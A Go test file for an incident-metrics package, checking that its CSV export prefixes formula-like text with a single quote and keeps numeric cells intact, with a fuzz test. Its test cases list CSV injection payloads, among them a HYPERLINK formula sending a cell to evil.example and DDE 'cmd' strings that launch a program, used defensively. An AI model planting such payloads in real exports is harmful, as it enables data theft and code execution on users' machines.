package metrics_test

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/iso27035/iso27035/incident"
	"github.com/iso27035/iso27035/metrics"
)

// formulaStart reports whether a spreadsheet would run cell as a formula
// (the OWASP CSV Injection list).
func formulaStart(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

// TestCSVDefusesHostText: host-supplied text (breakdown names and keys,
// interval names, severities, regimes, report kinds) that begins like a
// formula is written with a leading single quote; numbers are not.
func TestCSVDefusesHostText(t *testing.T) {
	cases := []struct{ key, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"=1+1", "'=1+1"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"-3.5", "'-3.5"}, // host text, even when it looks like a number
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"'=already quoted", "'=already quoted"}, // starts with a quote: inert
		{"it-operations", "it-operations"},       // a dash inside is harmless
		{"a=b", "a=b"},
		{"", ""},
	}
	D, C := incident.AnchorDetected, incident.AnchorContained
	var recs []*incident.Incident
	for i, c := range cases {
		recs = append(recs, rec(h(float64(i)), func(inc *incident.Incident) { inc.OrgUnit = c.key },
			at(D, h(float64(i))), at(C, h(float64(i)+1))))
	}
	recs = append(recs, rec(h(50), severity("=sev"), at(D, h(50)),
		obligation(incident.Obligation{Regime: "-regime", Report: "x", StartAt: h(50), Due: h(60), SubmittedAt: h(51)})))
	rep, err := metrics.Compute(seq(recs...), metrics.Options{
		Intervals:  []metrics.Interval{{Name: "@contain", From: D, To: C}},
		Breakdowns: []metrics.Breakdown{metrics.ByOrgUnit(), {Name: "+unit", Key: func(r incident.Record) string { return r.Head().OrgUnit }}},
		SLA:        []metrics.SLATarget{{Severity: "=sev", Interval: "@contain", Within: time.Hour}},
	})
	require.NoError(t, err)

	var buf bytes.Buffer
	require.NoError(t, rep.WriteCSV(&buf))
	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Equal(t, metrics.CSVHeader, rows[0])

	groups := map[string]map[string]bool{} // scope → groups written
	for _, r := range rows[1:] {
		for col := range 3 { // scope, group, figure: host text
			assert.False(t, formulaStart(r[col]), "%s cell %q", metrics.CSVHeader[col], r[col])
		}
		for col := 3; col < len(r); col++ { // numbers the package writes
			if r[col] != "" {
				_, err := strconv.ParseFloat(r[col], 64)
				assert.NoError(t, err, "%s cell %q", metrics.CSVHeader[col], r[col])
			}
		}
		if groups[r[0]] == nil {
			groups[r[0]] = map[string]bool{}
		}
		groups[r[0]][r[1]] = true
	}
	for _, c := range cases {
		assert.True(t, groups["org_unit"][c.want], "key %q written as %q", c.key, c.want)
		assert.True(t, groups["'+unit"][c.want], "key %q under a defused breakdown name", c.key)
	}
	figures := map[string]bool{}
	for _, r := range rows[1:] {
		figures[r[2]] = true
	}
	assert.True(t, figures["'@contain"], "interval name defused")
	assert.True(t, figures["sla.=sev.@contain"], "starts with s: inert, left as is")
	assert.True(t, figures["regulatory.-regime.x.compliance"], "starts with r: inert, left as is")

	// The JSON encoding keeps the raw keys.
	assert.Equal(t, cases[1].key, findGroup(t, rep, "org_unit", cases[1].key))
}

func findGroup(t *testing.T, rep *metrics.Report, breakdown, key string) string {
	t.Helper()
	for _, b := range rep.Breakdowns {
		if b.Name != breakdown {
			continue
		}
		for _, g := range b.Groups {
			if g.Key == key {
				return g.Key
			}
		}
	}
	t.Fatalf("group %q of %s not found", key, breakdown)
	return ""
}

// TestCSVKeepsNegativeNumbers: defusing never touches the numeric cells,
// so a negative number stays a number. The package's own figures are not
// negative, so the rows are built by hand: a summary row with a negative
// value in every numeric column must be written verbatim.
func TestCSVKeepsNegativeNumbers(t *testing.T) {
	rep := &metrics.Report{Overall: metrics.Summary{
		Records: -1, Opened: -2,
		ClosureRate: metrics.Ratio{Numerator: -7, Denominator: 2},
		Durations: []metrics.DurationStats{{
			Interval: metrics.Interval{Name: "-x"},
			Stats: metrics.Stats{Count: 1, Mean: -3500 * time.Millisecond, Median: -3500 * time.Millisecond,
				P90: -1, P95: -1, P99: -1, Min: -3500 * time.Millisecond, Max: -1},
		}},
	}}
	var buf bytes.Buffer
	require.NoError(t, rep.WriteCSV(&buf))
	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	byFig := map[string][]string{}
	for _, r := range rows[1:] {
		byFig[r[2]] = r
	}
	assert.Equal(t, "-1", byFig["records"][3])
	assert.Equal(t, "-2", byFig["opened"][3])
	d := byFig["'-x"]
	require.NotNil(t, d, "the host's interval name is defused")
	assert.Equal(t, "-3.5", d[4], "mean_seconds stays a number")
	assert.Equal(t, "-3.5", d[9], "min_seconds stays a number")
	assert.Equal(t, "-1e-09", d[10])
	assert.Equal(t, "-7", byFig["closure_rate"][11])
	assert.Equal(t, "-3.5", byFig["closure_rate"][13])
}

// FuzzCSVHostText: whatever the host's keys and names, no text cell of
// the CSV begins like a formula, every other cell is empty or a number,
// and the CSV reads back with one row shape.
func FuzzCSVHostText(f *testing.F) {
	for _, s := range []string{"=1+1", "-3.5", "@x", "\t=x", "\r=x", "plain", "", "a\"b,\n=c"} {
		f.Add(s, s)
	}
	f.Fuzz(func(t *testing.T, key, name string) {
		D, C := incident.AnchorDetected, incident.AnchorContained
		r := rec(t0, func(inc *incident.Incident) { inc.OrgUnit = key }, severity(incident.Severity(key)), at(D, t0), at(C, h(1)),
			obligation(incident.Obligation{Regime: key, Report: name, StartAt: t0, Due: h(2), SubmittedAt: h(1)}))
		o := metrics.Options{Breakdowns: []metrics.Breakdown{metrics.ByOrgUnit()}, Trend: metrics.Week}
		if name != "" {
			o.Intervals = []metrics.Interval{{Name: name, From: D, To: C}}
			o.Breakdowns = append(o.Breakdowns, metrics.Breakdown{Name: name + "_", Key: func(incident.Record) string { return name }})
			o.SLA = []metrics.SLATarget{{Severity: incident.Severity(key), Interval: name, Within: time.Hour}}
		}
		rep, err := metrics.Compute(seq(r), o)
		require.NoError(t, err)
		var buf bytes.Buffer
		require.NoError(t, rep.WriteCSV(&buf))
		rd := csv.NewReader(&buf)
		rows, err := rd.ReadAll()
		require.NoError(t, err)
		for _, row := range rows[1:] {
			for col := range 3 {
				if formulaStart(row[col]) {
					t.Fatalf("%s cell %q", metrics.CSVHeader[col], row[col])
				}
			}
			for col := 3; col < len(row); col++ {
				if row[col] != "" {
					if _, err := strconv.ParseFloat(row[col], 64); err != nil {
						t.Fatalf("%s cell %q", metrics.CSVHeader[col], row[col])
					}
				}
			}
		}
	})
}
